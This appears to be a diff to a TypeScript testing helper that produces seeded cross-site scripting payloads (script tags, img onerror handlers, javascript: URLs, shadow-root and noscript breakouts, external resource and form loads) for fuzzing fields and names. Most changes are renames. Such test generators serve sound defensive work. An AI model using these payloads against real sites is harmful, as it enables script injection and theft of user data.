@@ -2,7 +2,7 @@
  * Script injection payloads, combined from building blocks. If one becomes an element, it has the attribute
  * or the name `z`.
  */
-import { Dice } from '@pithead/testkit';
+import { SeededRandom } from '@pithead/testkit';
 
 const OPENERS = [
   '',
@@ -33,9 +33,9 @@ const CODES = [
   'alert&lpar;1&rpar;',
 ];
 
-type Write = (code: string) => string;
+type PayloadWriter = (code: string) => string;
 
-const RUNS: readonly Write[] = [
+const SCRIPT_PAYLOADS: readonly PayloadWriter[] = [
   (code) => `<script z>${code}</script>`,
   (code) => `<img z src=x onerror=${code}>`,
   (code) => `<img/z/src='x'/onerror='${code}'>`,
@@ -60,7 +60,7 @@ const RUNS: readonly Write[] = [
   (code) => `<template z shadowrootmode=open><img z src onerror=${code}></template>`,
   (code) => `<noscript z><p title="</noscript><img z src onerror=${code}>">`,
 ];
-const LOADS: readonly Write[] = [
+const RESOURCE_PAYLOADS: readonly PayloadWriter[] = [
   () => '<img z src=http://e.invalid/picture>',
   () => '<link z rel=stylesheet href=//e.invalid/style>',
   () => '<base z href=//e.invalid/>',
@@ -68,7 +68,7 @@ const LOADS: readonly Write[] = [
   () => '<p z style="background:url(//e.invalid/picture)">x',
   () => '<form z action=//e.invalid/><input z name=password>',
 ];
-const WITHOUT_MARKUP: readonly Write[] = [
+const TEXT_PAYLOADS: readonly PayloadWriter[] = [
   (code) => `javascript:${code}`,
   (code) => `\u00a0JaVaScRiPt:${code}`,
   (code) => `data:text/html,<script z>${code}</script>`,
@@ -80,9 +80,9 @@ const WITHOUT_MARKUP: readonly Write[] = [
   (code) => `\\u003cimg z src=x onerror=${code}\\u003e`,
 ];
 
-type Shape = (text: string) => string;
+type Encoding = (text: string) => string;
 
-const SHAPES: readonly Shape[] = [
+const ENCODINGS: readonly Encoding[] = [
   (text) => text,
   (text) => text,
   (text) => text.replaceAll(/<(\w+)/g, (tag) => tag.toUpperCase()),
@@ -96,38 +96,42 @@ const SHAPES: readonly Shape[] = [
   (text) => `<b z title='${text}'>`,
 ];
 
-const MOST_TRIES = 100;
+const MAX_TRIES = 100;
 
 function distinct(many: number, draw: (i: number) => string): string[] {
   const all = new Set<string>();
-  for (let i = 0; all.size < many && i < many * MOST_TRIES; i++) all.add(draw(i));
+  for (let i = 0; all.size < many && i < many * MAX_TRIES; i++) all.add(draw(i));
   return [...all];
 }
 
-const WRITES: readonly Write[] = [...RUNS, ...LOADS, ...WITHOUT_MARKUP];
+const PAYLOAD_WRITERS: readonly PayloadWriter[] = [
+  ...SCRIPT_PAYLOADS,
+  ...RESOURCE_PAYLOADS,
+  ...TEXT_PAYLOADS,
+];
 
 /** One example of each kind. */
-export const KINDS: readonly string[] = WRITES.map((write) => write('alert(1)'));
+export const PAYLOAD_KINDS: readonly string[] = PAYLOAD_WRITERS.map((write) => write('alert(1)'));
 
 /** The kind of the text at an index of `payloads`; kinds take turns. */
-export const kindAt = (place: number): number => place % WRITES.length;
+export const payloadKindAt = (place: number): number => place % PAYLOAD_WRITERS.length;
 
 /** For fields of some hundred letters. A kind with few variants repeats itself. */
-export function payloads(seed: number, many: number): string[] {
-  const dice = new Dice(seed, 'xss');
+export function xssPayloads(seed: number, many: number): string[] {
+  const dice = new SeededRandom(seed, 'xss');
   const all = new Set<string>();
   return Array.from({ length: many }, (_, place) => {
-    const write = WRITES[kindAt(place)] as Write;
-    const draw = (): string => dice.pick(OPENERS) + dice.pick(SHAPES)(write(dice.pick(CODES)));
+    const write = PAYLOAD_WRITERS[payloadKindAt(place)] as PayloadWriter;
+    const draw = (): string => dice.pick(OPENERS) + dice.pick(ENCODINGS)(write(dice.pick(CODES)));
     let text = draw();
-    for (let tries = 0; all.has(text) && tries < MOST_TRIES; tries++) text = draw();
+    for (let tries = 0; all.has(text) && tries < MAX_TRIES; tries++) text = draw();
     all.add(text);
     return text;
   });
 }
 
 /** For names of up to 24 letters; the number keeps them distinct. */
-const SHORT: readonly ((number: number) => string)[] = [
+const NAME_PAYLOADS: readonly ((number: number) => string)[] = [
   (n) => `<b z>${n}`,
   (n) => `"><i z>${n}`,
   (n) => `'><u z>${n}</u>`,
@@ -144,11 +148,15 @@ const SHORT: readonly ((number: number) => string)[] = [
   (n) => `<!--${n}--><b z>`,
 ];
 
-export const names = (many: number): string[] =>
-  distinct(many, (i) => (SHORT[i % SHORT.length] as (typeof SHORT)[number])(Math.floor(i / SHORT.length)));
+export const hostileNames = (many: number): string[] =>
+  distinct(many, (i) =>
+    (NAME_PAYLOADS[i % NAME_PAYLOADS.length] as (typeof NAME_PAYLOADS)[number])(
+      Math.floor(i / NAME_PAYLOADS.length),
+    ),
+  );
 
 /** Joins payloads into as few fields as possible. */
-export function joined(all: readonly string[], most: number): string[] {
+export function joinPayloads(all: readonly string[], most: number): string[] {
   const fields: string[] = [];
   for (const each of all) {
     const last = fields.at(-1);
